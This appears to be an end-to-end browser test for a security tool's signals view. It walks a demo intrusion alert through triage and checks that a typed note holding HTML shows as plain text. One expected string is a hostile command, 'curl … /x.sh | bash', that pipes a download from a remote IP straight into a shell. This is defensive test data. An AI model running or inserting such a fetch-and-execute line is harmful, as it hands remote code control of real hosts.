// Signals in the UI, on the demo case: the intrusion on web-01 raised them as the recording was ingested.
// Pick one, read what happened and what to do, see the process tree it started in and its events, and
// move it through triage.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { screenshotPath, startSession, type Session } from './harness.ts';

let session: Session;
beforeAll(async () => {
  session = await startSession();
});
afterAll(async () => {
  await session?.close();
});

describe('signals in Chromium, on the demo case', () => {
  it('shows a signal with its rule, triage steps, process tree and events, and takes it through triage', async () => {
    const { page, host } = session;
    await page.goto(host.url);
    await page.getByRole('link', { name: 'Signals', exact: true }).click();
    const row = page.getByTestId('signal-download_piped_to_shell');
    await row.waitFor();
    await expect(row.textContent()).resolves.toContain('T1059.004');
    await row.click();
    const pane = page.getByRole('region', { name: /^Signal \d+$/ });
    await pane.getByRole('heading', { name: 'download_piped_to_shell' }).waitFor();
    await expect(pane.textContent()).resolves.toMatch(/Triage.*Remediation/s);
    const tree = pane.getByRole('list', { name: 'Process and its ancestors' });
    await expect(tree.textContent()).resolves.toContain('/usr/sbin/php-fpm8.2');
    await expect(pane.textContent()).resolves.toContain('curl -s http://203.0.113.45/x.sh | bash');
    await page.screenshot({ path: screenshotPath('signals-detail') });

    await pane.getByRole('button', { name: 'Under review' }).click();
    await pane.getByRole('textbox', { name: 'Note' }).fill('x.sh fetched the implant <b>kworkerd</b>');
    await pane.getByRole('button', { name: 'Add note' }).click();
    await pane.getByText('x.sh fetched the implant <b>kworkerd</b>').waitFor(); // shown as typed, not as HTML
    await pane.getByRole('textbox', { name: 'Mute reason' }).fill('lab test box');
    await pane.getByRole('button', { name: /^Mute on web-01/ }).click();
    await expect(pane.getByTestId('active-mute').textContent()).resolves.toContain('lab test box');
    await page.getByRole('group', { name: 'Show signals' }).getByRole('button', { name: 'Under review' }).click();
    await expect.poll(() => page.locator('[data-testid^="signal-"]').count()).toBe(1);
    await expect(page.getByTestId('signal-download_piped_to_shell').textContent()).resolves.toContain('Under review');
    await page.screenshot({ path: screenshotPath('signals-under-review') });
    expect(session.problems).toEqual([]);
  });
});
